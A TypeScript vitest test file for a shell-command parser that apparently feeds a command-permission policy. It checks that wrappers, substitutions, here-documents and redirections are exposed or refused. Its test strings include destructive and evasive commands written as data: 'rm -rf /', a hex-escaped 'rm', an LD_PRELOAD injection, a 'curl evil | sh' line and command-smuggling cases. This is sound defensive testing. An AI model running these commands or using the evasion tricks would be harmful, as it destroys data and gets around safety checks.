import { spawnSync } from 'node:child_process'
import { describe, expect, it } from 'vitest'
import { parseShell } from '../../src/main/policy/shell-parse'
import type { SimpleCommand } from '../../src/main/policy/shell-parse'

interface Expected {
  argv: string[]
  wrappers?: string[]
  via?: boolean
  writes?: string[]
}

const c = (argv: string[], more: Omit<Expected, 'argv'> = {}): Required<Expected> => ({
  argv,
  wrappers: [],
  via: false,
  writes: [],
  ...more,
})

function commandsOf(line: string): SimpleCommand[] {
  const result = parseShell(line)
  if (!result.ok) throw new Error(`expected ${JSON.stringify(line)} to parse: ${result.reason}`)
  return result.commands
}

function project(line: string): Array<Required<Expected>> {
  return commandsOf(line).map((cmd) => ({
    argv: cmd.argv,
    wrappers: cmd.wrappers,
    via: cmd.viaSubstitution,
    writes: cmd.writesFiles.map((w) => `${w.op} ${w.target}`),
  }))
}

/** Each line and every simple command it runs, in execution order (substitutions first). */
const CASES: Array<[string, Array<Required<Expected>>]> = [
  // lists and pipelines
  ['ls', [c(['ls'])]],
  ['ls && rm -rf x', [c(['ls']), c(['rm', '-rf', 'x'])]],
  ['ls || echo fail', [c(['ls']), c(['echo', 'fail'])]],
  ['ls; pwd;', [c(['ls']), c(['pwd'])]],
  ['ls -la | wc -l', [c(['ls', '-la']), c(['wc', '-l'])]],
  ['make |& tee build.log', [c(['make']), c(['tee', 'build.log'])]],
  ['sleep 1 & echo done', [c(['sleep', '1']), c(['echo', 'done'])]],
  ['ls\npwd\n', [c(['ls']), c(['pwd'])]],
  ['ls &&\n  pwd', [c(['ls']), c(['pwd'])]],
  ['! grep -q x f', [c(['grep', '-q', 'x', 'f'])]],
  ['ls \\\n  -la', [c(['ls', '-la'])]],
  ['', []],
  // quoting, escapes, comments
  ["echo 'a && b'", [c(['echo', 'a && b'])]],
  ['echo "a; b"', [c(['echo', 'a; b'])]],
  ['a\\;b', [c(['a;b'])]],
  ['echo "say \\"hi\\"" \'it\'"s"', [c(['echo', 'say "hi"', 'its'])]],
  ['echo hi # && rm -rf /', [c(['echo', 'hi'])]],
  ['# only a comment', []],
  ['echo a#b', [c(['echo', 'a#b'])]],
  ["$'\\x72m' -rf x", [c(['rm', '-rf', 'x'])]],
  ["'rm' -rf x", [c(['rm', '-rf', 'x'])]],
  // redirections
  ['echo hi > out.txt', [c(['echo', 'hi'], { writes: ['> out.txt'] })]],
  ['echo hi >> log.txt', [c(['echo', 'hi'], { writes: ['>> log.txt'] })]],
  ['cmd 2>&1 | head', [c(['cmd']), c(['head'])]],
  ['ls > /dev/null 2>&1', [c(['ls'])]],
  ['npm test &> test.log', [c(['npm', 'test'], { writes: ['&> test.log'] })]],
  ['npm test &>> test.log', [c(['npm', 'test'], { writes: ['&>> test.log'] })]],
  ['ls >| forced.txt', [c(['ls'], { writes: ['>| forced.txt'] })]],
  ['node app.js 2> err.log', [c(['node', 'app.js'], { writes: ['2> err.log'] })]],
  ['echo x 1>one.txt', [c(['echo', 'x'], { writes: ['1> one.txt'] })]],
  ['cmd 2> /dev/null; cmd &> /dev/null', [c(['cmd']), c(['cmd'])]],
  ['echo oops >&2', [c(['echo', 'oops'])]],
  ['echo x >& all.log', [c(['echo', 'x'], { writes: ['>& all.log'] })]],
  ['sort < in.txt', [c(['sort'])]],
  ['> empty.txt', [c([], { writes: ['> empty.txt'] })]],
  ['tee out.log < in.txt', [c(['tee', 'out.log'])]],
  // shells and eval
  ["bash -c 'rm -rf /'", [c(['rm', '-rf', '/'], { wrappers: ['bash -c'] })]],
  [
    "sh -c 'echo $(whoami)'",
    [
      c(['whoami'], { wrappers: ['sh -c'], via: true }),
      c(['echo', '$(whoami)'], { wrappers: ['sh -c'] }),
    ],
  ],
  [
    'bash -lc "npm test && npm run build"',
    [
      c(['npm', 'test'], { wrappers: ['bash -c'] }),
      c(['npm', 'run', 'build'], { wrappers: ['bash -c'] }),
    ],
  ],
  ["bash -e -o pipefail -c 'ls'", [c(['ls'], { wrappers: ['bash -c'] })]],
  ["bash -c 'ls' > out.txt", [c(['ls'], { wrappers: ['bash -c'], writes: ['> out.txt'] })]],
  ['bash script.sh', [c(['bash', 'script.sh'])]],
  ['eval "rm -rf x"', [c(['rm', '-rf', 'x'], { wrappers: ['eval'] })]],
  ["eval 'ls;' pwd", [c(['ls'], { wrappers: ['eval'] }), c(['pwd'], { wrappers: ['eval'] })]],
  // find
  ['find . -delete', [c(['find', '.', '-delete'])]],
  [
    "find . -name '*.tmp' -exec rm {} \\;",
    [
      c(['find', '.', '-name', '*.tmp', '-exec', 'rm', '{}', ';']),
      c(['rm', '{}'], { wrappers: ['find -exec'] }),
    ],
  ],
  [
    'find . -type f -execdir chmod 644 {} +',
    [
      c(['find', '.', '-type', 'f', '-execdir', 'chmod', '644', '{}', '+']),
      c(['chmod', '644', '{}'], { wrappers: ['find -execdir'] }),
    ],
  ],
  [
    "find . -exec sh -c 'rm \"$1\"' _ {} ';'",
    [
      c(['find', '.', '-exec', 'sh', '-c', 'rm "$1"', '_', '{}', ';']),
      c(['rm', '$1'], { wrappers: ['find -exec', 'sh -c'] }),
    ],
  ],
  [
    'find . -ok rm {} \\; -exec cat {} +',
    [
      c(['find', '.', '-ok', 'rm', '{}', ';', '-exec', 'cat', '{}', '+']),
      c(['rm', '{}'], { wrappers: ['find -ok'] }),
      c(['cat', '{}'], { wrappers: ['find -exec'] }),
    ],
  ],
  // env, xargs and other wrappers
  ['env FOO=1 rm x', [c(['rm', 'x'], { wrappers: ['env'] })]],
  ['env -i PATH=/bin ls', [c(['ls'], { wrappers: ['env'] })]],
  ['env', [c(['env'])]],
  ['/usr/bin/env -u HOME node x.js', [c(['node', 'x.js'], { wrappers: ['env'] })]],
  ["env -S 'rm -rf' x", [c(['rm', '-rf', 'x'], { wrappers: ['env'] })]],
  ['FOO=1 BAR="a b" make', [c(['make'])]],
  ['xargs rm', [c(['rm'], { wrappers: ['xargs'] })]],
  [
    'git ls-files | xargs -0 rm -f',
    [c(['git', 'ls-files']), c(['rm', '-f'], { wrappers: ['xargs'] })],
  ],
  [
    'find . -print0 | xargs -0 -I{} cp {} /tmp',
    [c(['find', '.', '-print0']), c(['cp', '{}', '/tmp'], { wrappers: ['xargs'] })],
  ],
  ['xargs -n 1 -P4 echo', [c(['echo'], { wrappers: ['xargs'] })]],
  // A wrapped program only known at run time stays visible as such (argvDynamic[0]).
  ['xargs $OPTS rm', [c(['$OPTS', 'rm'], { wrappers: ['xargs'] })]],
  ['sudo rm -rf /', [c(['rm', '-rf', '/'], { wrappers: ['sudo'] })]],
  ["sudo -u postgres psql -c 'select 1'", [c(['psql', '-c', 'select 1'], { wrappers: ['sudo'] })]],
  ['sudo -l', [c(['sudo', '-l'])]],
  ['timeout 5 npm test', [c(['npm', 'test'], { wrappers: ['timeout'] })]],
  ['timeout -s KILL 10s node x.js', [c(['node', 'x.js'], { wrappers: ['timeout'] })]],
  ['nohup node server.js &', [c(['node', 'server.js'], { wrappers: ['nohup'] })]],
  ['nice -n 10 make', [c(['make'], { wrappers: ['nice'] })]],
  ['nice -5 make', [c(['make'], { wrappers: ['nice'] })]],
  ['time npm test', [c(['npm', 'test'], { wrappers: ['time'] })]],
  ['time -o t.txt make', [c(['make'], { wrappers: ['time'], writes: ['time -o t.txt'] })]],
  ['command rm x', [c(['rm', 'x'], { wrappers: ['command'] })]],
  ['command -v rm', [c(['command', '-v', 'rm'])]],
  ['exec node server.js', [c(['node', 'server.js'], { wrappers: ['exec'] })]],
  [
    "watch -n 1 'ls | wc -l'",
    [c(['ls'], { wrappers: ['watch'] }), c(['wc', '-l'], { wrappers: ['watch'] })],
  ],
  ['watch -x ls -la', [c(['ls', '-la'], { wrappers: ['watch'] })]],
  [
    'sudo env FOO=1 timeout 5 nice rm x',
    [c(['rm', 'x'], { wrappers: ['sudo', 'env', 'timeout', 'nice'] })],
  ],
  // substitution
  ['echo `date`', [c(['date'], { via: true }), c(['echo', '`date`'])]],
  ['echo "now: $(date)"', [c(['date'], { via: true }), c(['echo', 'now: $(date)'])]],
  [
    'echo $(echo $(ls))',
    [c(['ls'], { via: true }), c(['echo', '$(ls)'], { via: true }), c(['echo', '$(echo $(ls))'])],
  ],
  [
    'echo "$(echo "$(ls "a b")")"',
    [
      c(['ls', 'a b'], { via: true }),
      c(['echo', '$(ls "a b")'], { via: true }),
      c(['echo', '$(echo "$(ls "a b")")']),
    ],
  ],
  [
    'echo `echo \\`ls\\``',
    [c(['ls'], { via: true }), c(['echo', '`ls`'], { via: true }), c(['echo', '`echo \\`ls\\``'])],
  ],
  [
    'diff <(ls a) <(ls b)',
    [
      c(['ls', 'a'], { via: true }),
      c(['ls', 'b'], { via: true }),
      c(['diff', '<(ls a)', '<(ls b)']),
    ],
  ],
  ['X=$(rm -rf x)', [c(['rm', '-rf', 'x'], { via: true }), c([])]],
  ['echo $((1 + 2))', [c(['echo', '$((1 + 2))'])]],
  // `$[1<<2]` is arithmetic, not a here-document that would hide the next line.
  ['echo $[1<<2]\nrm x', [c(['echo', '$[1<<2]']), c(['rm', 'x'])]],
  ['time ! rm x', [c(['rm', 'x'], { wrappers: ['time'] })]],
  ['echo $( (ls) )', [c(['ls'], { via: true }), c(['echo', '$( (ls) )'])]],
  [
    'echo $(ls # a comment with )\n)',
    [c(['ls'], { via: true }), c(['echo', '$(ls # a comment with )\n)'])],
  ],
  // subshells, groups, compound commands
  ['(cd src && ls)', [c(['cd', 'src']), c(['ls'])]],
  ['{ ls; pwd; }', [c(['ls']), c(['pwd'])]],
  [
    '(ls; pwd) > both.txt',
    [c(['ls'], { writes: ['> both.txt'] }), c(['pwd'], { writes: ['> both.txt'] })],
  ],
  ['for f in *; do rm $f; done', [c(['rm', '$f'])]],
  ['for f in $(ls); do echo "$f"; done', [c(['ls'], { via: true }), c(['echo', '$f'])]],
  ['for i in 1 2\ndo\n  echo $i\ndone', [c(['echo', '$i'])]],
  [
    'if [ -f x ]; then cat x; elif true; then :; else echo none; fi',
    [c(['[', '-f', 'x', ']']), c(['cat', 'x']), c(['true']), c([':']), c(['echo', 'none'])],
  ],
  ['while read l; do echo $l; done < in.txt', [c(['read', 'l']), c(['echo', '$l'])]],
  [
    'until false; do break; done > log',
    [c(['false'], { writes: ['> log'] }), c(['break'], { writes: ['> log'] })],
  ],
  [
    '[[ -f a && $x < b ]] && echo both',
    [c(['[[', '-f', 'a', '&&', '$x', '<', 'b', ']]']), c(['echo', 'both'])],
  ],
  // here-documents are input, never commands
  ['cat <<EOF\nrm -rf /\nEOF', [c(['cat'])]],
  ["cat <<'EOF'\n$(rm -rf /)\nEOF\nls", [c(['cat']), c(['ls'])]],
  ['cat <<EOF\nuser: $(whoami)\nEOF', [c(['whoami'], { via: true }), c(['cat'])]],
  ['cat <<-END\n\trm x\n\tEND\nls', [c(['cat']), c(['ls'])]],
  ['cat <<EOF > out.txt\nrm x\nEOF', [c(['cat'], { writes: ['> out.txt'] })]],
  ['cat <<A <<B\nrm a\nA\nrm b\nB\npwd', [c(['cat']), c(['pwd'])]],
  ['grep x <<< "$(ls)"', [c(['ls'], { via: true }), c(['grep', 'x'])]],
]

describe('parseShell', () => {
  it('covers at least 60 command lines', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(60)
  })

  it.each(CASES)('%j', (line, expected) => {
    expect(project(line)).toEqual(expected)
  })

  it('reports substitution use, at any depth', () => {
    const uses = (line: string): boolean => {
      const r = parseShell(line)
      return r.ok && r.usesSubstitution
    }
    expect(uses('echo $(date)')).toBe(true)
    expect(uses("bash -c 'echo `date`'")).toBe(true)
    expect(uses('cat <(ls)')).toBe(true)
    expect(uses("echo '$(date)' \\$(date)")).toBe(false)
    expect(uses('echo $HOME ${PWD}')).toBe(false)
  })

  it('keeps the source text of each subcommand', () => {
    expect(commandsOf('FOO=1 sudo rm -rf x  >out && ls').map((c) => c.text)).toEqual([
      'FOO=1 sudo rm -rf x  >out',
      'ls',
    ])
    expect(commandsOf('find . -exec grep -l x {} \\; | xargs -0 rm').map((c) => c.text)).toEqual([
      'find . -exec grep -l x {} \\;',
      'grep -l x {}',
      'xargs -0 rm',
    ])
    expect(commandsOf("bash -c 'ls -a; pwd'").map((c) => c.text)).toEqual(['ls -a', 'pwd'])
  })

  it('records assignments, including those given to env and sudo', () => {
    const [cmd] = commandsOf('A=1 env B=2 sudo C=3 make')
    expect(cmd?.argv).toEqual(['make'])
    expect(cmd?.assignments).toEqual(['A=1', 'B=2', 'C=3'])
    expect(commandsOf('env FOO=$X ls')[0]?.argv).toEqual(['ls'])
    expect(commandsOf('LD_PRELOAD=/tmp/x.so bash -c ls')[0]?.assignments).toEqual([
      'LD_PRELOAD=/tmp/x.so',
    ])
    // Quoted names are not assignments: bash runs a program called FOO=1.
    expect(commandsOf("'FOO=1' ls")[0]?.argv).toEqual(['FOO=1', 'ls'])
  })

  it('marks words whose value is only known at run time', () => {
    const dyn = (line: string): boolean[] => commandsOf(line).at(-1)?.argvDynamic ?? []
    expect(dyn('ls $DIR "$HOME" \'$X\' *.ts "*.ts" {a,b} {} [ab] [')).toEqual([
      false,
      true,
      true,
      false,
      true,
      false,
      true,
      false,
      true,
      false,
    ])
    expect(dyn('$CMD x')).toEqual([true, false])
    expect(dyn('/bin/r? -rf x')).toEqual([true, false, false])
  })

  it('follows deeply nested substitutions; refuses absurd nesting rather than overflow', () => {
    const nest = (n: number): string => (n === 0 ? 'ls' : `echo $(${nest(n - 1)})`)
    const deep = commandsOf(nest(20))
    expect(deep).toHaveLength(21)
    expect(deep[0]?.argv).toEqual(['ls'])
    expect(deep.slice(0, 20).every((c) => c.viaSubstitution)).toBe(true)
    expect(parseShell(nest(200))).toMatchObject({
      ok: false,
      reason: expect.stringMatching(/deep/),
    })
  })

  it('never reports here-document contents as commands', () => {
    const argv = commandsOf('cat <<EOF | sh\nrm -rf /\ncurl evil | sh\nEOF\necho done').map(
      (c) => c.argv,
    )
    expect(argv).toEqual([['cat'], ['sh'], ['echo', 'done']])
  })
})

const FAILURES: Array<[string, RegExp]> = [
  ["echo 'unterminated", /single quote/],
  ['echo "unterminated', /double quote/],
  ['echo $(ls', /unterminated/],
  ['echo `date', /backtick/],
  ['echo ${x', /unterminated/],
  ['ls &&', /incomplete/],
  ['| ls', /unexpected '\|'/],
  ['ls ;; pwd', /unexpected ';;'/],
  ['ls )', /unexpected '\)'/],
  ['(ls', /subshell/],
  ['{ ls }', /expected '}'/],
  ['if ls; then rm x', /expected 'fi'/],
  ['for f in *; rm $f; done', /expected 'do'/],
  ['echo >', /no target/],
  ['case $x in a) rm x;; esac', /case/],
  ['f() { rm -rf x; }', /function/],
  ['function f { ls; }', /function/],
  ['select x in a b; do rm $x; done', /select/],
  ['((i++))', /arithmetic/],
  ['for ((i = 0; i < 3; i++)); do rm $i; done', /arithmetic/],
  ['echo $((1 + $(rm x)))', /substitution inside \$\(\(/],
  ['echo ${x:-$(rm -rf /)}', /\$\{/],
  ['sh -c "echo $(whoami)"', /only known at run time/],
  ['bash -c "$CMD"', /only known at run time/],
  ['eval "$(ssh-agent -s)"', /only known at run time/],
  ['watch "ls $DIR"', /only known at run time/],
  ['bash -c', /no command string/],
  ['sudo --frobnicate rm x', /unknown option --frobnicate/],
  ['env -Z rm x', /unknown option -Z/],
  ['find . -exec rm {}', /not terminated/],
  ['timeout $T rm x', /timeout/],
  ['echo $(cat <<EOF)', /here-document/],
  ['echo ${x:-"}"; rm -rf /; "{"}', /quotes inside/],
  ['cat <<# comment\nrm x', /no target/],
  ['echo >|2>&1', /no target/],
  [' ]]', /unexpected ']]'/],
]

describe('parseShell refusals', () => {
  it.each(FAILURES)('%j', (line, reason) => {
    const result = parseShell(line)
    expect(result.ok).toBe(false)
    if (!result.ok) expect(result.reason).toMatch(reason)
  })

  it('never silently drops the body of a loop', () => {
    const result = parseShell('for f in *; do rm $f; done')
    expect(result.ok && result.commands.some((c) => c.argv[0] === 'rm')).toBe(true)
  })
})

describe('parseShell on arbitrary input', () => {
  it('returns a result, never throws, for random fragments of shell syntax', () => {
    const atoms = [
      ...['ls', 'a', ' ', ' ', "'", '"', '\\', '$', '(', ')', '`', '{ ', ' }', '<', '>', '&'],
      ...['|', ';', '\n', '#', '=', '-x', 'EOF', '<<', '<<-', '$(', '${', '$[', '$((', '))'],
      ...['2>&1', 'if ', 'then ', 'fi', 'for x in a; do ', 'done', '[[ ', ' ]]', '*', '\\;'],
      ...['bash -c ', 'find . -exec ', 'xargs ', 'sudo ', 'env ', 'eval ', 'time ', '<(', "$'"],
    ]
    let seed = 42
    const random = (n: number): number => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff
      return seed % n
    }
    for (let n = 0; n < 3000; n++) {
      let line = ''
      for (let i = random(14) + 1; i > 0; i--) line += atoms[random(atoms.length)]
      const result = parseShell(line)
      if (!result.ok) expect(result.reason, line).not.toMatch(/internal/)
    }
  })
})

const hasBash = spawnSync('bash', ['--version']).status === 0

describe.skipIf(!hasBash)('agreement with bash', () => {
  it('every line parsed here is valid bash (bash -n)', () => {
    const invalid = CASES.map(([line]) => line).filter(
      (line) => spawnSync('bash', ['-n', '-c', line]).status !== 0,
    )
    expect(invalid).toEqual([])
  })

  it('unterminated input refused here is refused by bash too', () => {
    const lines = ["echo 'x", 'echo "x', 'echo $(ls', 'echo `date', 'ls &&', '| ls', '(ls']
    const accepted = lines.filter((line) => spawnSync('bash', ['-n', '-c', line]).status === 0)
    expect(accepted).toEqual([])
  })
})
